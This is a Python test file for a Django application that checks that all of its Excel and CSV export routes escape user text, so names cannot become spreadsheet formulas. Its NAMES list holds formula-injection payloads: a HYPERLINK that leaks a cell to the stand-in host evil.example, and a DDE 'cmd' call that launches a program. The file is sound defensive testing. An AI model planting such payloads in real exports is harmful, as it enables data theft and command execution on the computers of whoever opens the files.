"""No spreadsheet export turns a user's text into a formula (docs/security.md, "Formula injection").

Every export route (a route whose name ends in ``xlsx`` or ``csv``) is listed below, so a new export without a
case fails ``test_every_export_is_covered``. Each is downloaded through its screen with hamlets named like
formulas, read back with openpyxl, and no cell may be a formula.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import get_resolver
from openpyxl import Workbook, load_workbook

from lantoa.reports import periods, services
from lantoa.tenancy.models import Hamlet, Household
from lantoa.tenancy.spreadsheets import csv_row, workbook_bytes

from .conftest import YEAR

pytestmark = pytest.mark.django_db

NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+84 912 345 678",
    "-Thôn Ba",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]
EXPORTS = {
    "reports_admin:xlsx",
    "reports_admin:province_xlsx",
    "plans_admin:tasks_xlsx",
    "plans_admin:activities_xlsx",
    "reach:contacts_xlsx",
    "reach:households_xlsx",
    "partners_admin:partners_xlsx",
    "budget_admin:proposal_xlsx",
}


def _export_routes(resolver=None, namespace="") -> set[str]:
    found = set()
    for p in (resolver or get_resolver()).url_patterns:
        if hasattr(p, "url_patterns"):
            ns = f"{namespace}{p.namespace}:" if getattr(p, "namespace", None) else namespace
            found |= _export_routes(p, ns)
        elif p.name and p.name.endswith(("xlsx", "csv")):
            found.add(namespace + p.name)
    return found


def test_every_export_is_covered():
    assert _export_routes() == EXPORTS


def _formulas(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [
        f"{s.title}!{c.coordinate}={c.value!r}"
        for s in book.worksheets
        for r in s.iter_rows()
        for c in r
        if c.data_type == "f"
    ]


def _texts(content: bytes) -> set:
    book = load_workbook(io.BytesIO(content))
    return {c.value for s in book.worksheets for r in s.iter_rows() for c in r}


def test_no_export_holds_a_formula_made_from_user_text(world, pvhcc_a, province_user):
    commune = world["commune"]
    for index, name in enumerate(NAMES):
        hamlet = Hamlet.objects.create(commune=commune, name=name, households_baseline=2 + index, residents_baseline=5)
        Household.objects.create(commune=commune, hamlet=hamlet, code=f"F-{index}", members=2)
    report = services.create_draft(pvhcc_a, commune, periods.for_kind("h1", YEAR))
    downloads = {}
    client = Client()
    client.force_login(pvhcc_a)
    downloads["reports_admin:xlsx"] = client.get(f"/admin/baocao/{report.pk}/xlsx/")
    query = f"?commune={commune.pk}&period={YEAR}&mine=0"
    downloads["plans_admin:tasks_xlsx"] = client.get(f"/admin/plans/tasks/xlsx/{query}")
    downloads["plans_admin:activities_xlsx"] = client.get(f"/admin/plans/activities/xlsx/{query}")
    downloads["reach:contacts_xlsx"] = client.get(f"/reach/communes/{commune.pk}/contacts/xlsx/{query}")
    downloads["reach:households_xlsx"] = client.get(f"/reach/communes/{commune.pk}/households/xlsx/{query}")
    from lantoa.partners.models import Partner

    for index, name in enumerate(NAMES):
        Partner.objects.create(commune=commune, name=name, kind="factory", sector=name, address=f"{index}")
    downloads["partners_admin:partners_xlsx"] = client.get(f"/admin/partners/xlsx/?commune={commune.pk}")
    from lantoa.budget.models import EstimateLine

    for name in NAMES:
        EstimateLine.objects.create(commune=commune, year=YEAR, title=name, amount=1000, status="approved")
    downloads["budget_admin:proposal_xlsx"] = client.get(
        f"/admin/ngansach/de-xuat.xlsx?commune={commune.pk}&year={YEAR}"
    )
    client.force_login(province_user)
    downloads["reports_admin:province_xlsx"] = client.get(f"/admin/baocao/province/xlsx/?period={YEAR}H1")
    assert set(downloads) == EXPORTS
    for route, response in downloads.items():
        assert response.status_code == 200, route
        assert not _formulas(response.content), route
    # The names are there, as the text the commune typed.
    assert set(NAMES) <= _texts(downloads["reports_admin:xlsx"].content)
    assert set(NAMES) <= _texts(downloads["reach:households_xlsx"].content)
    assert set(NAMES) <= _texts(downloads["partners_admin:partners_xlsx"].content)
    proposal = " | ".join(str(t) for t in _texts(downloads["budget_admin:proposal_xlsx"].content))
    assert all(name in proposal for name in NAMES)


def test_the_helper_keeps_the_text_and_escapes_csv():
    book = Workbook()
    for row, name in enumerate([*NAMES, "Thôn Một", 12], start=1):
        book.active.cell(row=row, column=1, value=name)
    content = workbook_bytes(book)
    assert not _formulas(content)
    assert [r[0] for r in load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)] == [
        *NAMES,
        "Thôn Một",
        12,
    ]
    out = io.StringIO()
    csv.writer(out).writerow(csv_row([*NAMES, "Thôn Một", 12, -3]))
    fields = next(csv.reader(io.StringIO(out.getvalue())))
    assert all(f.startswith("'") for f in fields[: len(NAMES)])
    assert fields[len(NAMES) :] == ["Thôn Một", "12", "-3"]
